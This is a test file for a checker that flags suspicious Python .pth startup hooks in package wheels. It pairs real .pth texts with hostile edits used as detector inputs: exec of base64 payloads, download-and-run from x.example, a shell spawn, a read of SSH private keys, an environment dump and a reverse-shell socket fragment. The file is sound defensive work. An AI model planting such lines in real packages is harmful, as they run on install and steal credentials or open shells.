/**
 * startup-hooks: the `.pth` classifier over real texts first (setuptools 84.0.0, coverage
 * 7.16.2, cmeel 0.61.0, sphinxcontrib-jsmath 1.0.1 — copied from their wheels, see
 * fixtures/PROVENANCE.md), then hostile edits said to be edits, then the check's table.
 */
import { describe, expect, it } from 'vitest';
import check from '../../src/checks/startup-hooks.js';
import { excerpt, executedLines, readPth, type PthKind } from '../../src/checks/lib/python-code.js';
import type { PypiStartupHook, PypiWheelContents } from '../../src/evidence/schema.js';
import { ok, pypiFacts } from '../support/evidence-builder.js';
import { pypiEvidence } from '../support/pypi-evidence.js';
import { checkTable, outcomeOf } from './check-table.js';

/** Real `.pth` texts, as the wheels ship them. */
const SETUPTOOLS = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";
const JSMATH =
  "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('sphinxcontrib',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('sphinxcontrib', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('sphinxcontrib', [os.path.dirname(p)])));m = m or sys.modules.setdefault('sphinxcontrib', types.ModuleType('sphinxcontrib'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n";
const COVERAGE = 'import sys; exec(\'import os\\n\\nif os.getenv("COVERAGE_PROCESS_START") or os.getenv("COVERAGE_PROCESS_CONFIG"):\\n try:\\n  import coverage\\n except:\\n  pass\\n else:\\n  coverage.process_startup(slug="pth")\')\n';
const CMEEL = 'import cmeel_pth\n';

describe('.pth classifier', () => {
  it.each<[string, string, PthKind, string[]]>([
    ['setuptools distutils-precedence.pth (real)', SETUPTOOLS, 'distutils-precedence', []],
    ['sphinxcontrib-jsmath nspkg.pth (real)', JSMATH, 'namespace', []],
    ['coverage a1_coverage.pth (real): exec of a literal is ordinary startup code', COVERAGE, 'code', []],
    ['cmeel.pth (real)', CMEEL, 'code', []],
    ['paths and comments only', '# a comment\nsrc\n../lib\n', 'paths', []],
    ['"import" not at the start of the line is a path', ' import os\nimportlib_path\n', 'paths', []],
    ['a tab after import runs too', 'import\tos\n', 'code', []],
    // Hostile edits of the real texts.
    ['edit of cmeel.pth: base64 payload executed', 'import base64; exec(base64.b64decode("aW1wb3J0IG9z"))\n', 'suspicious', ['decode']],
    ['edit of coverage: downloads and runs', 'import urllib.request; exec(urllib.request.urlopen("https://x.example/p").read())\n', 'suspicious', ['network', 'url']],
    ['edit of cmeel.pth: spawns a process', 'import subprocess; subprocess.Popen(["sh", "-c", "id"])\n', 'suspicious', ['process']],
    ['edit of cmeel.pth: reads SSH keys', "import os; open(os.path.expanduser('~/.ssh/id_rsa')).read()\n", 'suspicious', ['credentials']],
    ['edit of cmeel.pth: dumps the environment', 'import os, json; json.dumps(dict(os.environ))\n', 'suspicious', ['env-dump']],
    ['edit of cmeel.pth: a reverse shell', 'import socket,os; s=socket.socket(); os.dup2(s.fileno(),0)\n', 'suspicious', ['network', 'reverse-shell']],
    ['edit of cmeel.pth: an encoded blob', `import x; y = "${'QUJD'.repeat(60)}"\n`, 'suspicious', ['encoded-blob']],
    ['edit of cmeel.pth: a hidden import of zlib', "import sys; exec(__import__('zlib').decompress(b'...'))\n", 'suspicious', ['dynamic-import']],
    ['edit of the nspkg line: one statement added is not the template', JSMATH.replace('mp.append(p)', 'mp.append(p);__import__("os").system("id")'), 'suspicious', ['dynamic-import']],
    ['edit of distutils-precedence: another module is not the template', SETUPTOOLS.replace('_distutils_hack', 'evil_hack'), 'code', []],
  ])('%s', (_name, text, kind, flags) => {
    const reading = readPth(text);
    expect(reading.kind).toBe(kind);
    for (const flag of flags) expect(reading.flags).toContain(flag);
    if (kind !== 'suspicious') expect(reading.flags).toEqual([]);
  });

  it('executed lines are those site.py executes; excerpts are one line, capped', () => {
    expect(executedLines('a\nimport x\r\n#import y\nimport\tz\n')).toEqual(['import x', 'import\tz']);
    expect(excerpt(`import x;\u202e${'y'.repeat(500)}`)).toMatch(/^import x; y+…$/);
    expect(excerpt('import x').length).toBe(8);
  });

  it('the blob pattern stays linear on a long run without a match', () => {
    const text = `import x; ${'A'.repeat(199)}-`.repeat(2_000);
    expect(readPth(text).kind).toBe('code');
  });
});

const hook = (path: string, text: string | null, unread: string | null = null): PypiStartupHook => ({ path, size: text?.length ?? 100_000, text, truncated: false, unread });
const contents = (hooks: PypiStartupHook[], extra: Partial<PypiWheelContents> = {}): PypiWheelContents => ({
  wheel: 'example-2.1.0-py3-none-any.whl',
  unavailable: null,
  size: 20_000,
  bytesRead: 4_000,
  entries: 12,
  hooks,
  hooksUnread: 0,
  ...extra,
});
const withContents = (wheelContents: PypiWheelContents | undefined) => {
  if (wheelContents !== undefined) return pypiEvidence({ pypi: { wheelContents } });
  // Evidence saved before nerq read wheels: the facts without the member.
  const { wheelContents: _absent, ...saved } = pypiFacts();
  return pypiEvidence({ pypi: ok(saved) });
};

checkTable(check, [
  { name: 'no .pth in the wheel', evidence: withContents(contents([])), score: 100, messageId: 'none', data: { entries: 12 } },
  { name: 'paths only', evidence: withContents(contents([hook('example.pth', 'src\n')])), score: 100, messageId: 'paths', data: { kinds: ['paths'] } },
  { name: 'setuptools templates (real texts)', evidence: withContents(contents([hook('distutils-precedence.pth', SETUPTOOLS), hook('x-nspkg.pth', JSMATH)])), score: 90, messageId: 'templates' },
  { name: 'coverage (real): ordinary startup code, named', evidence: withContents(contents([hook('a1_coverage.pth', COVERAGE)])), score: 30, messageId: 'code', message: ['a1_coverage.pth: import sys; exec('] },
  {
    name: 'edit: a .pth that downloads and runs',
    evidence: withContents(contents([hook('evil.pth', 'import urllib.request; exec(urllib.request.urlopen("http://x.example").read())\n')])),
    score: 10,
    messageId: 'suspicious',
    data: { flags: ['network', 'url'] },
  },
  { name: 'a .pth too large to read is hidden code', evidence: withContents(contents([hook('bomb.pth', null, 'over 64 KiB')])), score: 10, messageId: 'suspicious', data: { flags: ['unreadable: over 64 KiB'] } },
  { name: 'more .pth files than read', evidence: withContents(contents([hook('a.pth', 'src\n')], { hooksUnread: 3 })), score: 10, messageId: 'suspicious', data: { flags: ['3 more .pth files'] } },
  { name: 'the wheel could not be read: unknown, never 100', evidence: withContents(contents([], { unavailable: 'the wheel could not be read: HTTP 500' })), score: null, messageId: 'unread' },
  { name: 'no wheel in the release', evidence: withContents(contents([], { wheel: null })), score: null, messageId: 'no-wheel' },
  { name: 'evidence saved before nerq read wheels', evidence: withContents(undefined), score: null, messageId: 'unread', data: { reason: 'the evidence predates nerq reading wheels (a fresh run with --no-cache reads it)' } },
]);

describe('startup-hooks: the verdict hold', () => {
  it('suspicious startup code holds the verdict; ordinary code does not', () => {
    expect(outcomeOf(check, withContents(contents([hook('a1_coverage.pth', COVERAGE)]))).holdVerdict).toBeUndefined();
    expect(outcomeOf(check, withContents(contents([hook('e.pth', 'import base64;exec(base64.b64decode("eA=="))')]))).holdVerdict).toMatch(/startup hook/);
  });
});
